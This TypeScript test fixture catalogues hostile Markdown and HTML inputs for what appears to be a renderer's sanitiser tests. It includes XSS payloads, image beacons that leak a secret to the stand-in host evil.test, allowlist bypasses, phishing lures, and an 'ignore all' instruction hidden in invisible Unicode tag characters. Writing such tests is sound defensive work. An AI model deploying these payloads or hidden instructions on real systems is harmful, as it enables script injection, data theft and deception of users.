/** One hostile text of the catalogue. */
export interface Hostile {
  id: string;
  text: string;
  /** Must be readable on the page afterwards. */
  visible?: string;
}

/** An address in every place where Markdown takes one. */
function everywhere(id: string, url: string): Hostile[] {
  return [
    { id: `${id} link`, text: `[x marks](${url})`, visible: 'x marks' },
    { id: `${id} link in brackets`, text: `[x marks](<${url}>)` },
    { id: `${id} image`, text: `![x marks](${url})`, visible: 'x marks' },
    { id: `${id} reference`, text: `[x marks][r] and ![x][r]\n\n[r]: ${url}\n`, visible: 'x' },
    { id: `${id} autolink`, text: `before <${url}> after`, visible: 'before' },
    { id: `${id} bare`, text: `before ${url} after`, visible: 'before' },
  ];
}

const SCHEMES: [string, string][] = [
  ['M01', 'javascript:alert(1)'],
  ['M02', 'JaVaScRiPt:alert(1)'],
  ['M03', ' javascript:alert(1)'],
  ['M03 control', '\u0001javascript:alert(1)'],
  ['M04 tab', 'java\tscript:alert(1)'],
  ['M04 newline', 'java\nscript:alert(1)'],
  ['M05', '&#106;avascript:alert(1)'],
  ['M06', '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)'],
  ['M07', 'javascript&colon;alert(1)'],
  ['M09', '%6aavascript:alert(1)'],
  ['M10', 'java%0ascript:alert(1)'],
  ['M13', 'vbscript:msgbox(1)'],
  ['M14', 'data:text/html,<script>alert(1)</script>'],
  ['M15', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['M16', 'data:image/svg+xml,<svg onload=alert(1)>'],
  ['M17', 'file:///etc/passwd'],
  ['M18', 'blob:https://evil.test/0'],
  ['M19', 'view-source:https://evil.test/'],
  ['M20', 'ftp://evil.test/x'],
  ['M21', 'jаvascript:alert(1)'],
  ['M23', 'java\0script:alert(1)'],
  ['M24', 'java\\script:alert(1)'],
  ['M26', 'feed:javascript:alert(1)'],
  ['M46', 'https://img.example@evil.test/x.png'],
  ['M47', 'https://img.example:443@evil.test/x.png'],
];

const IMAGE = 'https://evil.test/p.png?q=secret';

export const HOSTILE: Hostile[] = [
  ...SCHEMES.flatMap(([id, url]) => everywhere(id, url)),
  { id: 'M25', text: '[x marks](#javascript:alert(1))', visible: 'x marks' },
  { id: 'M27', text: `![pixel](${IMAGE})`, visible: 'evil.test' },
  { id: 'M28', text: `![pixel][p]\n\ntext\n\n[p]: ${IMAGE}`, visible: 'evil.test' },
  { id: 'M30', text: `[![pixel](${IMAGE})](https://evil.test/)`, visible: 'pixel' },
  {
    id: 'M31',
    text: `# ![a1](${IMAGE})\n\n| ![a2](${IMAGE}) |\n|---|\n| ![a3](${IMAGE}) |\n\n- [ ] ![a4](${IMAGE})\n\n> ![a5](${IMAGE})\n\nnote[^1]\n\n[^1]: ![a6](${IMAGE})\n`,
    visible: 'a6',
  },
  { id: 'M34', text: `See ${IMAGE} there`, visible: IMAGE },
  { id: 'M35', text: `<img src="${IMAGE}">`, visible: '<img' },
  {
    id: 'M37',
    text: `<link rel=prefetch href="${IMAGE}"><link rel="dns-prefetch" href="//evil.test">`,
    visible: '<link',
  },
  { id: 'M38', text: `<style>@import '${IMAGE}'; p{background:url(${IMAGE})}</style>`, visible: '<style>' },
  { id: 'M40', text: '<base href="https://evil.test/">\n\n[x](y)', visible: '<base' },
  { id: 'M42', text: '```js" onmouseover="alert(1)" class="evil\ncode here\n```', visible: 'code here' },
  { id: 'M44', text: '![x](https://img.example.evil.test/ok/p.png)', visible: 'evil.test' },
  { id: 'M45', text: '![x](https://img.exampleevil.test/ok/p.png)', visible: 'img.exampleevil.test' },
  { id: 'M48', text: '![x](https://img.example/ok/../../steal)', visible: 'img.example' },
  { id: 'M48 encoded dots', text: '![x](https://img.example/ok/%2e%2e/steal)', visible: 'img.example' },
  { id: 'M48 encoded slash', text: '![x](https://img.example/ok/..%2fsteal)', visible: 'img.example' },
  { id: 'M48 backslash', text: '![x](https://img.example/ok/..\\\\steal)', visible: 'img.example' },
  { id: 'M51', text: '![x](https://img.example/OK/p.png)', visible: 'img.example' },
  { id: 'M52', text: '![x](http://img.example/ok/p.png)', visible: 'img.example' },
  { id: 'M53', text: '![xyz](//evil.test/ok/p.png) ![uvw](\\\\/\\\\/evil.test/p.png)', visible: 'uvw' },
  { id: 'M55', text: '![x](https://img.example./ok/p.png)', visible: 'img.example' },
  { id: 'M57', text: '![x](https://img.example:8443/ok/p.png)', visible: 'img.example:8443' },
  { id: 'M59', text: '![x](https://img.exa&Tab;mple.evil.test/ok/p.png)', visible: 'x' },
  { id: 'M60', text: '[bank](https://аpple.example/) ![x](https://img.exаmple/ok/p.png)', visible: 'xn--' },
  { id: 'M62', text: '[https://bank.example/](https://evil.test/login)', visible: '(evil.test)' },
  {
    id: 'M63',
    text: [
      '<script>alert(1)</script>',
      '<svg onload=alert(1)>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<object data="https://evil.test/"></object>',
      '<embed src="https://evil.test/">',
      '<form action="https://evil.test/"><button formaction="https://evil.test/">Go</button></form>',
      '<input autofocus onfocus=alert(1)>',
    ].join('\n\n'),
    visible: 'formaction',
  },
  {
    id: 'M66',
    text: '<!-- <img src=x> --> <![CDATA[<script>]]> <?php x ?> <!doctype html> seen',
    visible: 'seen',
  },
  { id: 'M67', text: `<img src=${IMAGE} onerror=alert(1)>`, visible: 'onerror' },
  { id: 'M68', text: '</div></article></main>\n\nafter', visible: 'after' },
  { id: 'M71', text: `[x marks](https://evil.test/ 'a" onmouseover="alert(1)')`, visible: 'x marks' },
  { id: 'M72', text: `![<img src=x onerror=alert(1)> **bold**](${IMAGE})`, visible: 'onerror' },
  { id: 'M73', text: '| a |\n|:-:{style="background:url(https://evil.test/)"}|\n| b |', visible: 'b' },
  { id: 'M74', text: '~~~"><img src=x onerror=alert(1)>\ncode here\n~~~', visible: 'code here' },
  {
    id: 'M77',
    text: '> **Error:** your session ended. [Sign in](https://evil.test/login)',
    visible: 'evil.test',
  },
  { id: 'M78', text: '[\u202Emoc.elpmaxe.knab//:sptth](https://evil.test/)', visible: '(evil.test)' },
  { id: 'M80', text: 'W'.repeat(100_000), visible: 'WWWW' },
  {
    id: 'M81',
    text: `Hello${Array.from('ignore all', (char) => String.fromCodePoint(0xe0000 + char.charCodeAt(0))).join('')} there`,
    visible: 'Hello there',
  },
  { id: 'M83', text: '# constructor\n\n# constructor\n\na[^1]\n\n[^1]: b', visible: 'constructor' },
  {
    id: 'prototype labels',
    text: '[__proto__] [constructor][toString] [^__proto__]\n\n[__proto__]: https://evil.test/',
    visible: 'constructor',
  },
];
